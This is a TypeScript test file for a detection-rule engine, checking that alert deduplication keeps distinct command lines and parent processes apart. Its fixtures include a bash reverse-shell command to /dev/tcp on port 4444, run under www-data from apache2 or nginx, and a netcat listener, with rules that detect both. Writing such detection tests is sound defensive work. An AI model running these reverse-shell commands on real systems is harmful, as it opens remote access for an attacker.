import { describe, expect, it } from 'vitest';
import { ruleSet, processRule, collect } from './test/helpers.js';
import { distinctPart } from './dedupe.js';

const rule = processRule('  s:\n    CommandLine|contains: /dev/tcp/\n  condition: s').replace('detection:', 'vigil: {group_by: [Image, User]}\ndetection:');
const bash = (cmd: string, extra: Record<string, unknown> = {}) => ({
  processStart: { pid: 9, ppid: 1, exe: '/usr/bin/bash', argv: ['bash', '-c', cmd], user: 'www-data', parentExe: '/usr/sbin/apache2', ...extra },
});

describe('dedupe keys never hide a new command line, destination or parent', () => {
  it('a rule grouped by [Image, User] still separates command lines and parents, and shows them in the group', () => {
    const set = ruleSet(rule);
    const ms = collect(set, [
      { e: bash('echo >/dev/tcp/10.0.0.1/80'), t: 0 },
      { e: bash('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'), t: 1 },
      { e: bash('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', { argv: ['/usr/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'] }), t: 2 },
      { e: bash('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', { parentExe: '/usr/sbin/nginx' }), t: 3 },
    ]);
    expect(ms.length).toBe(4);
    expect(new Set(ms.map((m) => m.groupKey)).size).toBe(3); // argv[0] spelled differently is the same command
    expect(ms[1]!.group).toEqual({
      Image: '/usr/bin/bash',
      User: 'www-data',
      CommandLine: 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
      ParentImage: '/usr/sbin/apache2',
    });
    expect(ms[1]!.groupKey).not.toBe(ms[0]!.groupKey);
    expect(ms[3]!.groupKey).not.toBe(ms[1]!.groupKey);
  });

  it('fields a rule already groups by are not added twice; absent fields add nothing', () => {
    const set = ruleSet(processRule('  s:\n    Image|endswith: /nc\n  condition: s').replace('detection:', 'vigil: {group_by: [CommandLine]}\ndetection:'));
    const [m] = collect(set, [{ e: { processStart: { pid: 1, exe: '/usr/bin/nc', argv: ['nc', '-l', '4444'] } }, t: 0 }]);
    expect(Object.keys(m!.group).sort()).toEqual(['CommandLine', 'Image']);
  });

  it('compares a command line without its argv[0]', () => {
    expect(distinctPart('CommandLine', '/usr/bin/bash -c id')).toBe('-c id');
    expect(distinctPart('CommandLine', 'bash')).toBe('');
    expect(distinctPart('DestinationIp', '203.0.113.5')).toBe('203.0.113.5');
  });
});
